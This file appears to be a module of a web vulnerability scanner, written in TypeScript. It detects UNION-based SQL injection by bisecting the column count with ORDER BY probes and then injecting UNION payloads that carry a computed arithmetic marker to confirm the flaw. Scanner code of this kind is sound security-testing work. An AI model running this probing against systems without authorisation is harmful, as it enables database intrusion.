/** Counts the columns by their order, then puts a product of two numbers into one of them. */
import { randomInt } from 'node:crypto'
import { identical, likeness, noiseOf } from '../../insertion-points/likeness.ts'
import type { Probe, Reply } from '../../insertion-points/prober.ts'
import { around } from '../../insertion-points/verdict.ts'
import type { Computed, UnionHit } from '../facts.ts'
import { MARKS, ordered, UNIONS, type Union, united } from '../payloads.ts'
import { fitsOf } from './fits.ts'

const MOST_COLUMNS = 24

export const askUnion = async (probe: Probe, broken: Reply): Promise<UnionHit | null> => {
  const fits = fitsOf(probe.point)
  for (const union of UNIONS.filter((one) => fits.includes(one.fits))) {
    const columns = await columnsOf(probe, union, broken)
    if (columns === null) continue
    probe.pursue()
    const hit = await showMark(probe, union, columns)
    if (hit) return hit
  }
  return null
}

/** Bisection: ordering by a column that exists answers, by one that does not breaks. */
const columnsOf = async (probe: Probe, { open }: Union, broken: Reply): Promise<number | null> => {
  const ask = (column: number): Promise<Reply> =>
    probe.send(ordered(probe.point.value, open, column), { language: 'sql' })
  const first = await ask(1)
  // Nothing that is asked for can then be nearer to it than to what is broken.
  if (likeness(first, broken) === 1) return null
  const beyond = await ask(MOST_COLUMNS * 4)
  // A long page says in a few words that something failed; what is wrong about that, the marks tell.
  if (identical(first, beyond, noiseOf(await probe.baseline())) || likeness(first, broken) > likeness(beyond, broken))
    return null
  let [low, high] = [1, MOST_COLUMNS + 1]
  while (high - low > 1) {
    const middle = Math.floor((low + high) / 2)
    const reply = await ask(middle)
    if (likeness(reply, first) > likeness(reply, beyond)) low = middle
    else high = middle
  }
  return low > MOST_COLUMNS - 1 ? null : low
}

const showMark = async (probe: Probe, union: Union, columns: number): Promise<UnionHit | null> => {
  // Every column at once suits databases that convert; one after another suits those that want the types to match.
  const layouts = ['all', ...Array.from({ length: Math.min(columns, 8) }, (_, index) => index)] as const
  for (const mark of MARKS) {
    for (const layout of layouts) {
      const first = await show(probe, union, columns, mark, layout)
      if (!first.seen) continue
      const second = await show(probe, union, columns, mark, layout)
      if (second.seen) return { technique: 'union', columns, computed: [first, second] }
    }
  }
  return null
}

const show = async (
  probe: Probe,
  { open }: Union,
  columns: number,
  mark: (a: number, b: number) => string,
  layout: 'all' | number,
): Promise<Computed> => {
  const [a, b] = [randomInt(2_000, 9_000), randomInt(2_000, 9_000)]
  const list = Array.from({ length: columns }, (_, index) =>
    layout === 'all' || layout === index ? mark(a, b) : 'Null',
  )
  const payload = united(open, list)
  const reply = await probe.send(payload, { language: 'sql' })
  const expected = `qv${a * b}vq`
  const seen = reply.text.includes(expected)
  return { payload, expected, seen, excerpt: seen ? around(reply.text, expected) : '', replay: reply.replay }
}
